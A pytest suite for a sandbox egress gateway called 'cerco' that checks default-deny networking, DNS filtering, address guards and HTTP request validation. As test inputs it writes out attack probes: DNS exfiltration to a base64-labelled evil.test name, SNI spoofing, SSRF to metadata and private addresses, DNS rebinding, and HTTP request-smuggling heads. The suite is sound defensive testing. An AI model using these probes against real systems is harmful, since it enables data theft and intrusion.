"""Egress: denied by default, one door, every request on record. Servers stand where a hole would show."""
# lane: full
# sanitized
import json
import os
import re
import signal
import subprocess

import pytest

from cerco import GUARD, SANITIZED, find_below, wait_until
from world import DNS, FORBIDDEN, PUBLIC, PUBLIC6

POLICY = f"""
version = 1
task = "egress"
[network]
resolvers = ["{DNS}"]
[[egress]]
host = "api.test"
ports = [443]
methods = ["GET", "POST"]
paths = ["/v1/**", "/echo"]
[[egress]]
host = "tunnel.test"
[[egress]]
host = "*.cdn.test"
[[egress]]
host = "plain.test"
ports = [80]
methods = ["GET"]
[[egress]]
host = "rebind.test"
ports = [80]
methods = ["GET"]
[[egress]]
host = "mixed.test"
ports = [80]
methods = ["GET"]
[[egress]]
host = "inner.test"
ports = [80]
methods = ["GET"]
[[egress]]
host = "six.test"
ports = [80]
methods = ["GET"]
[[egress]]
host = "mapped.test"
ports = [80]
methods = ["GET"]
[[egress]]
host = "alias.test"
ports = [80]
methods = ["GET"]
[[egress]]
host = "zero.test"
ports = [80]
methods = ["GET"]
[[egress]]
name = "raw"
tcp = "raw.test:7000"
[[egress]]
name = "lan"
cidr = "10.9.9.0/24"
ports = [8080]
"""


@pytest.fixture(scope="module")
def net(world):
    world.web = world.https(["api.test", "tunnel.test", "a.cdn.test", "evil.test", "b.a.cdn.test", "cdn.test"])
    world.plain = world.http("plain.test", address=PUBLIC[1])
    world.second = world.http("second.test", address=PUBLIC[2])
    world.raw = world.tcp(PUBLIC[3], 7000, after_end=1 << 20)
    world.lan = world.http("lan.test", address="10.9.9.9", port=8080)
    world.six = world.http("six.test", address=PUBLIC6[0])
    world.zone.update({"raw.test": [PUBLIC[3]], "rebind.test": [[PUBLIC[1]], ["169.254.169.254"], ["127.0.0.1"]],
                       "mixed.test": [PUBLIC[1], "10.9.9.9"], "inner.test": ["10.9.9.9"],
                       "six.test": PUBLIC6, "mapped.test": [PUBLIC[1], "::ffff:10.9.9.9"], "zero.test": ["0.0.0.0", "::"],
                       "alias.test": {"cname": "inner.corp.test"}, "inner.corp.test": ["10.9.9.9"], "lan.test": ["10.9.9.9"]})
    world.names()
    world.traps = [world.http(f"trap{i}.test", address=address) for i, address in enumerate(FORBIDDEN)]
    world.box = world.cerco()
    return world


def run(net, script, policy=POLICY, **kwargs):
    return net.box.run("--", "sh", "-c", script, policy=policy, **kwargs)


CURL = "curl -sS -m 20 -o /dev/null -w '%{http_code}\\n'"


def test_an_allowed_request_is_answered_and_on_record(net):
    net.web.clear()
    result = run(net, f"{CURL} https://api.test/v1/me")
    assert result.out == b"200\n", result
    assert [e["path"] for e in net.web.entries() if e["event"] == "request"] == ["/v1/me"]
    decisions = result.of_type("egress.decision")
    assert [(d["verdict"], d["host"], d["port"], d["method"]) for d in decisions] == [("allow", "api.test", 443, "GET")]
    ended = result.of_type("egress.ended")
    assert [e["of"] for e in ended] == [decisions[0]["id"]] and ended[0]["status"] == 200


@pytest.mark.parametrize("client", [
    "curl -sS https://api.test/echo",
    "python3 -c 'import urllib.request; print(urllib.request.urlopen(\"https://api.test/echo\").read().decode())'",
    "python3 -c 'import requests; print(requests.get(\"https://api.test/echo\").text)'",
    "node -e 'fetch(\"https://api.test/echo\").then(r => r.text()).then(console.log)'",
])
def test_the_runs_own_authority_is_trusted_without_set_up(net, client):
    """F36: curl, Python and Node."""
    result = run(net, client)
    assert result.status == 0 and json.loads(result.text)["path"] == "/echo", result


def test_a_tunnel_is_opaque_and_checked_by_its_name(net):
    """N51, N52, N56, N57: SNI must be the name that was connected to."""
    good = run(net, f"curl -sSk -o /dev/null -w '%{{http_code}}\\n' https://tunnel.test/any; openssl s_client -connect tunnel.test:443 </dev/null 2>/dev/null | grep -c 'small internet root'")
    assert good.text.splitlines()[0] == "200", good
    assert good.text.splitlines()[1] != "0", "the server's own certificate is seen: nothing was terminated"
    net.web.clear()
    other = run(net, "curl -sSk -m 10 --connect-to evil.test:443:tunnel.test:443 https://evil.test/; echo $?")
    assert other.text.strip() != "0"
    assert [e for e in net.web.entries() if e["event"] == "sni"] == []
    none = run(net, "echo | openssl s_client -noservername -connect tunnel.test:443 2>&1 | grep -c BEGIN.CERT")
    assert none.text.strip() == "0", none
    raw = run(net, "printf 'SSH-2.0-x\\r\\n' | timeout 10 nc tunnel.test 443 | grep -c hello")
    assert raw.text.strip() == "0" and not [e for e in net.web.entries() if e["event"] in ("sni", "connection")], raw
    refused = [d for d in other.of_type("egress.decision") if d["verdict"] != "allow"]
    assert len(refused) == 1 and refused[0]["reason"], other.events
    open_ = run(net, "curl -sSk -m 10 --connect-to evil.test:443:tunnel.test:443 https://evil.test/ >/dev/null; echo $?",
                without=["sni_check"])
    assert open_.text.strip() == "0", "without the check the other name passes"


def test_wildcards_are_one_label(net):
    """N31, N32, N34."""
    script = "for h in a.cdn.test cdn.test b.a.cdn.test evil-cdn.test; do getent ahostsv4 $h >/dev/null && echo yes $h || echo no $h; done"
    assert run(net, script).text.splitlines() == ["yes a.cdn.test", "no cdn.test", "no b.a.cdn.test", "no evil-cdn.test"]


def test_a_name_that_is_not_allowed_is_never_asked_for(net):
    """F1, N89, N91: no query leaves, so none can carry data; the control shows the query without the filter."""
    net.dns.clear()
    result = run(net, "getent hosts c2VjcmV0.evil.test; curl -sS -m 5 http://c2VjcmV0.evil.test/; dig +short +time=2 +tries=1 TXT data.evil.test; true")
    assert net.dns.entries() == []
    assert any(r["host"] == "c2vjcmv0.evil.test" and r["kind"] == "host" for r in result.report["refused"]), result.report
    assert "c2vjcmv0.evil.test" in result.error, "the block on standard error names it"
    assert [d for d in result.of_type("dns.decision") if d["verdict"] == "deny"]
    net.names(records={"c2vjcmv0.evil.test": [PUBLIC[0]]})
    run(net, "curl -sS -m 5 http://c2vjcmv0.evil.test/", without=["name_filter"])
    assert [e["name"] for e in net.dns.entries()], "without the filter the name leaves"


def test_only_addresses_are_answered(net):
    """N90, N92: TXT, MX, HTTPS, ANY of an allowed name give nothing; any server's address is ours."""
    net.dns.clear()
    script = ("for t in TXT MX TYPE65 SRV; do dig +noall +answer +time=3 +tries=1 $t api.test; done; dig +short @8.8.8.8 api.test;"
              " dig +tcp +short api.test; dig +short @185.12.64.53 evil.test; dig +noall +comments evil.test | grep -o NXDOMAIN")
    lines = run(net, script).text.split()
    assert len(lines) == 3 and lines[0] == lines[1] and lines[2] == "NXDOMAIN", lines
    assert net.dns.entries() == []


@pytest.mark.parametrize("target", [
    "169.254.169.254", "10.9.9.9", "172.16.5.5", "192.168.77.7", "100.100.100.200", "168.63.129.16", "[::ffff:10.9.9.9]",
    "[::ffff:169.254.169.254]", "[64:ff9b::a09:909]", "[2002:a09:909::1]", "[fd00:ec2::254]", "198.51.7.2", "198.51.7.1",
    "[2a01:4f8:0:7::2]", "93.184.216.35", "224.0.0.1", "255.255.255.255", "1.1.1.1",
])
def test_literal_addresses_are_refused_in_the_kernel(net, target):
    """N1, N16-N30, E80, E81, F8, F17: a true refusal, with nothing on the other side."""
    for trap in (*net.traps, net.plain, net.lan):
        trap.clear()
    result = run(net, f"curl -sS -g -m 10 http://{target}/ ; echo $?")
    assert result.text.strip() != "0", result
    assert all(trap.entries() == [] for trap in (*net.traps, net.plain, net.lan))
    decisions = [d for d in result.of_type("egress.decision") if d["verdict"] == "deny"]
    if target not in ("224.0.0.1", "255.255.255.255"):  # these cannot be connected to at all
        assert decisions, result.events
        assert result.report["refused"], result.report


@pytest.mark.parametrize("name, answers", [
    ("inner.test", {"403"}), ("alias.test", {"403"}), ("zero.test", {"403"}), ("mixed.test", {"200"}), ("mapped.test", {"200"}),
    ("rebind.test", {"200", "403"}),
])
def test_what_a_name_resolves_to_is_judged(net, name, answers):
    """N46, N79-N85, F7: private answers are never dialled; a rebinding name only ever at an address that passed."""
    for seen in (*net.traps, net.lan, net.dns):
        seen.clear()
    result = run(net, f"for i in 1 2 3; do {CURL} http://{name}/; done")
    assert net.lan.entries() == [] and all(trap.entries() == [] for trap in net.traps)
    codes = result.text.split()
    assert len(codes) == 3 and set(codes) == answers, result
    if name == "rebind.test":
        assert codes[0] == "200", "its first address is a public one"
    denied = [d["reason"] for d in result.of_type("egress.decision") if d["verdict"] == "deny"]
    assert len(denied) == codes.count("403") and all(denied)
    assert [entry for entry in net.dns.entries() if entry["name"] == name], "the gateway asked"


def test_without_the_guard_the_private_address_is_reached(net):
    net.names(records={"inner80.test": ["192.168.77.7"]})
    policy = POLICY + '[[egress]]\nhost = "inner80.test"\nports = [80]\nmethods = ["GET"]\n'
    assert run(net, f"{CURL} http://inner80.test/", policy=policy).text.strip() != "200"
    assert run(net, f"{CURL} http://inner80.test/", policy=policy, without=["address_guard"]).text.strip() == "200"


def test_a_denied_range_binds_names_as_well(net):
    """Also where a rule's addresses open it; the control has no guard."""
    policy = (POLICY + f'[[deny]]\ncidr = "{PUBLIC[2]}/32"\n[[deny]]\ncidr = "10.9.9.0/24"\nports = [80]\n'
              '[[egress]]\nhost = "lan.test"\nports = [80, 8080]\naddresses = ["10.9.9.0/24"]\n'
              '[[egress]]\nhost = "second.test"\nports = [80]\n')
    net.second.clear()
    script = f"{CURL} http://second.test/; {CURL} http://lan.test:80/; {CURL} http://lan.test:8080/; {CURL} http://plain.test/"
    result = run(net, script, policy=policy)
    assert result.text.split() == ["403", "403", "200", "200"], result
    assert net.second.entries() == []
    assert [d["reason"] for d in result.of_type("egress.decision") if d["verdict"] == "deny"] == ["deny-rule"] * 2
    assert run(net, f"{CURL} http://second.test/", policy=policy, without=["address_guard"]).text.strip() == "200"


def test_what_is_denied_is_denied_in_every_spelling(net):
    """Methods of any case, paths that are encoded twice, fields that the gateway takes off."""
    policy = (f'version = 1\n[network]\nresolvers = ["{DNS}"]\n[[egress]]\nhost = "second.test"\nports = [80]\n'
              'headers = { forbid = ["Upgrade"] }\n[[deny]]\nhost = "second.test"\nmethods = ["DELETE"]\n'
              '[[deny]]\nhost = "second.test"\npaths = ["/admin/**"]\n')
    net.second.clear()
    rows = {"-X DELETE http://second.test/": "403", "-X delete http://second.test/": "403", "-H 'X-HTTP-Method-Override: delete' http://second.test/": "403",
            "http://second.test/admin/x": "403", "http://second.test/%61dmin/x": "403", "http://second.test/%2561dmin/x": "400",
            "-H 'Upgrade: h2c' http://second.test/": "403"}
    result = run(net, "; ".join(f"{CURL} {row}" for row in rows), policy=policy)
    assert result.text.split() == list(rows.values()), result
    assert not [e for e in net.second.entries() if e["event"] == "request"]
    assert run(net, f"{CURL} -X POST http://second.test/x", policy=policy).text.strip() == "200"


def test_a_port_that_no_rule_names_is_a_true_refusal(net):
    """F109: the connect itself fails, so that no client takes a refusal for a connection."""
    script = "python3 - <<'X'\nimport socket\ns = socket.socket(); s.settimeout(5)\ntry:\n    s.connect(('10.9.9.9', 81)); print('connected')\nexcept OSError as e:\n    print(type(e).__name__)\nX"
    assert run(net, script).text.strip() == "ConnectionRefusedError"


def test_plain_http_is_judged_request_by_request(net):
    """N69, N106, F20, F24: ten requests on one kept connection are ten decisions; HEAD follows GET; POST is refused."""
    net.plain.clear()
    script = ("python3 - <<'X'\nimport http.client\nc = http.client.HTTPConnection('plain.test')\nfor i in range(10):\n"
              "    c.request('GET', f'/n{i}'); r = c.getresponse(); r.read(); print(r.status, end=' ')\n"
              "c.request('HEAD', '/h'); r = c.getresponse(); r.read(); print(r.status)\n"
              "c.request('POST', '/p', body='x'); r = c.getresponse(); print(r.status, r.headers['X-Cerco-Deny'], r.read().decode())\nX")
    result = run(net, script)
    first, second = result.text.splitlines()[:2]
    assert first.split() == ["200"] * 11, result
    status, reason, body = second.split(" ", 2)
    answer = json.loads(body)
    assert status == "403" and reason == answer["reason"] and answer["method"] == "POST" and answer["host"] == "plain.test"
    assert "methods" in answer["fix"]
    allowed = [d for d in result.of_type("egress.decision") if d["verdict"] == "allow"]
    assert len(allowed) == 11 and len({d["conn"] for d in allowed}) == 1
    assert [e["method"] for e in net.plain.entries() if e["event"] == "request"] == ["GET"] * 10 + ["HEAD"]


@pytest.mark.parametrize("head, status", [
    ("GET / HTTP/1.1\\r\\nHost: second.test\\r\\n\\r\\n", "421"),                       # another host
    ("GET / HTTP/1.1\\r\\n\\r\\n", "400"),                                              # N109: none
    ("GET / HTTP/1.1\\r\\nHost: plain.test\\r\\nHost: plain.test\\r\\n\\r\\n", "400"),      # N109: two
    ("GET http://second.test/ HTTP/1.1\\r\\nHost: plain.test\\r\\n\\r\\n", "400"),         # N69
    ("POST / HTTP/1.1\\r\\nHost: plain.test\\r\\nContent-Length: 1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n", "400"),  # N97
    ("GET / HTTP/1.1\\r\\nHost: plain.test\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n", "501"),  # N99
    ("GET / HTTP/1.1\\r\\nHost: plain.test\\r\\nA: b\\r\\n c\\r\\n\\r\\n", "400"),           # N101
    ("GET / HTTP/1.1\\nHost: plain.test\\n\\n", "400"),                               # N102
    ("GET /a/../b HTTP/1.1\\r\\nHost: plain.test\\r\\n\\r\\n", "400"),                     # F21
    ("GET /x%00 HTTP/1.1\\r\\nHost: plain.test\\r\\n\\r\\n", "400"),                       # N119
    ("TRACE / HTTP/1.1\\r\\nHost: plain.test\\r\\n\\r\\n", "405"),                         # N120
    ("PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n", "505"),                                    # N116, F23
])
def test_what_could_be_read_two_ways_is_rejected(net, head, status):
    net.plain.clear()
    result = run(net, f"printf '{head}' | timeout 10 nc -q 3 plain.test 80 | head -n 1 | tr -d '\\r'")
    assert result.text.split()[1:2] == [status], result
    assert not [e for e in net.plain.entries() if e["event"] == "request"]
    assert len([d for d in result.of_type("egress.decision") if d["verdict"] != "allow"]) == 1, "F104: one decision"


def test_raw_tcp_and_half_close(net):
    """F33, N124: by a tcp rule; the client's end is passed on and all bytes after it arrive."""
    script = "python3 - <<'X'\nimport socket\ns = socket.create_connection(('raw.test', 7000)); s.sendall(b'hi'); s.shutdown(socket.SHUT_WR)\nn = 0\nwhile d := s.recv(65536): n += len(d)\nprint(n)\nX"
    result = run(net, script)
    assert result.text.strip() == str(2 + (1 << 20)), result
    assert [(d["way"], d["rule"]) for d in result.of_type("egress.decision")] == [("tcp", "raw")]


def test_a_rules_budgets_hold_for_the_whole_run(net):
    """max_up and max_down, to the byte and over all connections at once; without them the same script moves all."""
    script = """python3 - <<'X'
import socket, threading
def one():
    try:
        s = socket.create_connection(('raw.test', 7000)); s.sendall(b'x' * 40960); s.shutdown(socket.SHUT_WR)
        while d := s.recv(65536): down.append(len(d))
    except OSError:
        pass
down = []
threads = [threading.Thread(target=one) for _ in range(4)]
for t in threads: t.start()
for t in threads: t.join()
print(sum(down))
X"""
    for bounds, up, down in (("", 163840, None), ('max_up = "64KiB"', 65536, None), ('max_down = "1MiB"', None, 1 << 20)):
        net.raw.clear()
        result = run(net, script, policy=POLICY.replace('name = "raw"', f'name = "raw"\n{bounds}'))
        assert result.status == 0, result
        arrived = lambda: sum(e["size"] for e in net.raw.entries() if e["event"] == "data")
        if not bounds:
            assert wait_until(lambda: arrived() == up, what="all bytes at the server") and int(result.text) > 4 << 20, result
            continue
        sent = arrived()
        assert any(e.get("problem") == "budget" for e in result.of_type("egress.ended")), result.events
        assert up is None or 0 < sent <= up, sent
        assert down is None or 0 < int(result.text) <= down, result
    refused = run(net, f"{CURL} -d 'more than that' https://api.test/echo",
                  policy=POLICY.replace('"/echo"]', '"/echo"]\nmax_up = "8"'))
    assert refused.text.strip() == "403" and refused.report["refused"], refused


def test_a_cidr_rule_opens_what_it_says(net):
    net.lan.clear()
    assert run(net, f"{CURL} http://10.9.9.9:8080/").text.strip() == "200"
    assert run(net, f"{CURL} -m 5 http://10.9.9.9:81/").text.strip() != "200"
    net.lan.clear()
    assert run(net, f"{CURL} -m 5 http://10.9.10.9:8080/").text.strip() != "200"
    assert net.lan.entries() == []


def test_ipv6_upstream(net):
    assert run(net, f"{CURL} http://six.test/").text.strip() == "200"


def test_other_datagrams_and_icmp_are_refused_at_once(net):
    """N140-N142, F4: QUIC, NTP, STUN, ICMP, tunnels, SCTP, DCCP; the same over IPv6, to a neighbour as well."""
    traps = [net.serve("udp", {"address": address, "port": 443}) for address in (PUBLIC[0], PUBLIC6[0])]
    script = ("python3 - <<'X'\nimport socket\nfor port in (443, 123, 853, 3478, 5353, 5355, 53000):\n    s = socket.socket(type=socket.SOCK_DGRAM); s.settimeout(10)\n    s.connect(('93.184.216.34', port)); s.send(b'x')\n"
              "    try:\n        s.recv(10); print('answer')\n    except OSError as e:\n        print(type(e).__name__)\n"
              "for host in ('" + PUBLIC6[0] + "', 'fe80::1', 'ff02::1'):\n    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.settimeout(10)\n"
              "    try:\n        s.connect((host, 443)); s.send(b'x'); s.recv(10); print('answer')\n    except TimeoutError:\n        print('sent')\n"
              "    except OSError as e:\n        print('refused')\nX")
    result = run(net, script)
    assert result.text.split() == ["ConnectionRefusedError"] * 7 + ["refused"] * 3, result
    assert [trap.entries() for trap in traps] == [[], []]
    kinds = ("import socket\nfor kind in ((2, 3, 1), (2, 3, 47), (2, 3, 50), (2, 3, 41), (2, 3, 255), (10, 3, 58), (2, 2, 1), (2, 1, 132), (2, 6, 33)):\n"
             "    try:\n        socket.socket(*kind)\n        print('GOT')\n    except OSError as e:\n        print(e.errno)\n")
    held = net.box.run("--", "python3", "-c", kinds, policy=POLICY).text.split()
    assert len(held) == 9 and "GOT" not in held, held
    free = subprocess.run(["unshare", "--net", "/usr/bin/python3", "-c", kinds], capture_output=True, text=True, timeout=GUARD)
    assert free.stdout.split()[:6] == ["GOT"] * 6, free


def test_servers_inside_are_left_alone(net):
    """F27: loopback inside, own address, ports below 1024, all by themselves; nothing of it is recorded as egress."""
    script = ("python3 -m http.server 80 --bind 0.0.0.0 >/dev/null 2>&1 & for i in $(seq 100); do curl -s -o /dev/null http://127.0.0.1/ && break; sleep 0.1; done;"
              f" {CURL} http://127.0.0.1/; {CURL} http://localhost/; {CURL} http://$(hostname -i | cut -d' ' -f1)/ ")
    result = run(net, script)
    assert result.text.split() == ["200"] * 3, result
    assert result.of_type("egress.decision") == []


def test_no_network_at_all_by_default(net):
    """F32: only lo, every connect fails, and a sandbox that never speaks costs no gateway."""
    result = net.box.run("--", "sh", "-c", "ls /sys/class/net 2>/dev/null; cat /proc/net/dev | tail -n +3 | cut -d: -f1; getent hosts api.test || echo none")
    assert result.text.split() == ["lo", "none"], result


def test_a_large_body_goes_through_a_small_gateway(net):
    """F35: the most memory that the gateway ever had, as the kernel counts it."""
    size = 200_000_000
    path = net.folder / "large.toml"
    path.write_text(POLICY)
    process = net.box.start("run", "--policy", path, "--", "sh", "-c", f"curl -sS http://plain.test/bytes/{size} | wc -c; read line",
                            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    got = process.stdout.readline()
    status = open(f"/proc/{find_below(process, 'cerco-gateway')}/status").read()
    process.communicate(b"\n", timeout=GUARD)
    assert int(got) == size
    assert int(re.search(r"^VmHWM:\s+(\d+) kB", status, re.M)[1]) * 1024 < (160 if SANITIZED else 64) * 1_000_000


def test_the_gateway_dead_is_a_refusal_and_not_a_hang(net):
    script = "echo up; read line; curl -sS -m 20 https://api.test/v1/me; echo $?; getent ahostsv4 api.test || echo none"
    path = net.folder / "dead.toml"
    path.write_text(POLICY)
    process = net.box.start("run", "--policy", str(path), "--", "sh", "-c", script, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE)
    assert process.stdout.readline() == b"up\n"
    gateway = wait_until(lambda: find_below(process, "cerco-gateway"), what="the gateway")
    os.kill(gateway, signal.SIGKILL)
    wait_until(lambda: find_below(process, "cerco-gateway") != gateway, what="the gateway's end")
    out, err = process.communicate(b"go\n", timeout=GUARD)
    lines = out.decode().split()
    assert lines[0] != "0" and lines[-1] == "none", (out, err)
